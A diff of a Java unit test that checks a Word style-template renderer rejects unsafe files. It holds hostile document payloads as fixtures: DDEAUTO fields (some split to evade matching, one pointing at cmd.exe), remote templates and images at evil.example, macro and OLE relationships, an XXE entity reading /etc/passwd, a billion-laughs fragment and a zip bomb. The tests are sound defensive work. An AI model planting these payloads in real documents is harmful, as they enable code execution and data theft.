@@ -12,13 +12,21 @@ import java.util.Locale;
 import java.util.Map;
 import java.util.Optional;
 import java.util.function.Consumer;
+import java.util.stream.IntStream;
+import java.util.stream.Stream;
 import kring.report.Bullets;
 import kring.report.Text;
 import kring.report.word.look.UnusableStyle;
+import kring.report.word.look.UnusableStyle.Problem;
 import org.apache.poi.xwpf.usermodel.XWPFDocument;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.MethodSource;
 
 class OwnLookTest {
+    private static final String TYPES = "[Content_Types].xml";
+    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
     private static final byte[] STYLE = StyleDocuments.libreOffice();
 
     @Test
@@ -132,17 +140,184 @@ class OwnLookTest {
         assertThat(render(STYLE).bytes()).isEqualTo(render(STYLE).bytes());
     }
 
-    @Test
-    void what_is_no_word_document_is_refused() {
+    /** Each of them a change of a document that is fine. */
+    static Stream<Arguments> hazards() {
         byte[] prose = "Beste kring".getBytes(StandardCharsets.UTF_8);
-        byte[] half = Arrays.copyOf(STYLE, STYLE.length / 2);
-        byte[] sheet = with(parts ->
-                replace(parts, "[Content_Types].xml", "wordprocessingml.document.main", "spreadsheetml.sheet.main"));
-        byte[] broken = with(parts -> replace(parts, "word/styles.xml", "</w:styles>", ""));
-        byte[] head = with(parts -> replace(parts, "word/header1.xml", "</w:hdr>", ""));
-        for (byte[] bad : new byte[][] {prose, half, sheet, broken, head, new byte[0]}) {
-            assertThatThrownBy(() -> render(bad)).isInstanceOf(UnusableStyle.class);
-        }
+        byte[] oldWord = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
+        return Stream.of(
+                Arguments.of("prose", Problem.NOT_WORD, prose),
+                Arguments.of("nothing", Problem.NOT_WORD, new byte[0]),
+                Arguments.of("half a file", Problem.NOT_WORD, Arrays.copyOf(STYLE, STYLE.length / 2)),
+                Arguments.of(
+                        "a workbook",
+                        Problem.NOT_WORD,
+                        changing(TYPES, "wordprocessingml.document.main", "spreadsheetml.sheet.main")),
+                Arguments.of("broken styles", Problem.NOT_WORD, changing("word/styles.xml", "</w:styles>", "")),
+                Arguments.of("a broken header", Problem.NOT_WORD, changing("word/header1.xml", "</w:hdr>", "")),
+                Arguments.of(
+                        "a header in disguise",
+                        Problem.NOT_WORD,
+                        changing(TYPES, "/word/header1.xml", "/word/header1.png")),
+                Arguments.of("a password", Problem.LOCKED, oldWord),
+                Arguments.of(
+                        "a bomb",
+                        Problem.TOO_LARGE,
+                        with(parts -> parts.put("word/media/x.bmp", "0".repeat(50_000_001)))),
+                Arguments.of(
+                        "too many parts",
+                        Problem.TOO_LARGE,
+                        with(parts -> IntStream.range(0, 2_001).forEach(i -> parts.put("word/" + i, "")))),
+                Arguments.of(
+                        "a macro document",
+                        Problem.MACROS,
+                        changing(
+                                TYPES,
+                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                                "application/vnd.ms-word.document.macroEnabled.main+xml")),
+                Arguments.of("macros", Problem.MACROS, with(parts -> parts.put("word/vbaProject.bin", "x"))),
+                Arguments.of(
+                        "macros by another name",
+                        Problem.MACROS,
+                        relation(
+                                "http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"innocent.txt")),
+                Arguments.of(
+                        "macros by their type",
+                        Problem.MACROS,
+                        changing(
+                                TYPES,
+                                "</Types>",
+                                "<Override PartName=\"/word/x.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>")),
+                Arguments.of(
+                        "an object",
+                        Problem.MACROS,
+                        relation(OFFICE + "oleObject\" Target=\"embeddings/oleObject1.bin")),
+                Arguments.of("a control", Problem.MACROS, relation(OFFICE + "control\" Target=\"activeX/activeX1.xml")),
+                Arguments.of(
+                        "a template elsewhere",
+                        Problem.LINKS,
+                        relation(OFFICE
+                                + "attachedTemplate\" TargetMode=\"External\" Target=\"http://evil.example/x.dotm")),
+                Arguments.of(
+                        "a template on a share",
+                        Problem.LINKS,
+                        with(
+                                parts -> parts.put(
+                                        "word/_rels/settings.xml.rels",
+                                        relations(
+                                                OFFICE
+                                                        + "attachedTemplate\" TargetMode=\"External\" Target=\"file:////evil/share/x.dotm")))),
+                Arguments.of(
+                        "a picture elsewhere",
+                        Problem.LINKS,
+                        with(parts -> parts.put(
+                                "word/_rels/header1.xml.rels",
+                                relations(OFFICE
+                                        + "image\" TargetMode=\"external\" Target=\"http://evil.example/x.png")))),
+                Arguments.of(
+                        "an object elsewhere",
+                        Problem.MACROS,
+                        relation(OFFICE + "oleObject\" TargetMode=\"External\" Target=\"file:///c:/x.xlsx")),
+                Arguments.of(
+                        "a frame elsewhere",
+                        Problem.LINKS,
+                        relation(OFFICE + "frame\" TargetMode=\"External\" Target=\"http://evil.example/x")),
+                Arguments.of(
+                        "a mail merge",
+                        Problem.LINKS,
+                        changing("word/settings.xml", "</w:settings>", "<w:mailMerge/></w:settings>")),
+                Arguments.of("DDE", Problem.FIELDS, field(run("DDE excel c:\\\\x.xlsx"))),
+                Arguments.of(
+                        "DDEAUTO in pieces",
+                        Problem.FIELDS,
+                        field(run(" DD") + run("EAU") + run("TO c:\\\\windows\\\\cmd.exe"))),
+                Arguments.of("dde in small letters", Problem.FIELDS, field(run(" ddeauto x"))),
+                Arguments.of(
+                        "a field in a field",
+                        Problem.FIELDS,
+                        field(run(" QUOTE ") + begin() + run("DDEAUTO x") + end())),
+                Arguments.of(
+                        "a field that never ends",
+                        Problem.FIELDS,
+                        header(begin() + run(" INCLUDETEXT \"http://evil.example\""))),
+                Arguments.of(
+                        "a linked picture",
+                        Problem.FIELDS,
+                        field(run(" INCLUDEPICTURE \"http://evil.example/x.png\" \\\\d"))),
+                Arguments.of(
+                        "a simple field", Problem.FIELDS, header("<w:fldSimple w:instr=\" LINK Excel.Sheet x\"/>")),
+                Arguments.of(
+                        "a DOCTYPE",
+                        Problem.ENTITIES,
+                        changing(
+                                "word/document.xml",
+                                "<w:document",
+                                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document")),
+                Arguments.of(
+                        "a DOCTYPE elsewhere",
+                        Problem.ENTITIES,
+                        changing(
+                                "word/styles.xml",
+                                "<w:styles",
+                                "<!DOCTYPE x SYSTEM \"http://evil.example/x.dtd\"><w:styles")),
+                Arguments.of(
+                        "a billion laughs",
+                        Problem.ENTITIES,
+                        changing(
+                                "word/settings.xml",
+                                "<w:settings",
+                                "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><w:settings")));
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("hazards")
+    void what_is_no_word_document_or_holds_a_hazard_is_refused(String name, Problem problem, byte[] style) {
+        assertThatThrownBy(() -> render(style))
+                .isInstanceOfSatisfying(
+                        UnusableStyle.class, e -> assertThat(e.problem()).isEqualTo(problem));
+    }
+
+    @Test
+    void a_field_that_only_names_such_words_is_fine() {
+        assertThat(render(field(run(" HYPERLINK \"http://kring.example/link\"")))
+                        .body())
+                .isNotEmpty();
+        assertThat(render(field(run(" PAGE "))).body()).isNotEmpty();
+    }
+
+    private static byte[] changing(String part, String before, String after) {
+        return with(parts -> replace(parts, part, before, after));
+    }
+
+    private static byte[] relation(String relation) {
+        return changing(
+                "word/_rels/document.xml.rels",
+                "</Relationships>",
+                "<Relationship Id=\"x1\" Type=\"" + relation + "\"/></Relationships>");
+    }
+
+    private static String relations(String relation) {
+        return "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"x1\" Type=\""
+                + relation + "\"/></Relationships>";
+    }
+
+    private static byte[] field(String runs) {
+        return header(begin() + runs + end());
+    }
+
+    private static byte[] header(String runs) {
+        return changing("word/header1.xml", "</w:p></w:hdr>", runs + "</w:p></w:hdr>");
+    }
+
+    private static String begin() {
+        return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
+    }
+
+    private static String end() {
+        return "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
+    }
+
+    private static String run(String text) {
+        return "<w:r><w:instrText>" + text.replace("\"", "&quot;") + "</w:instrText></w:r>";
     }
 
     private static byte[] with(Consumer<Map<String, String>> change) {
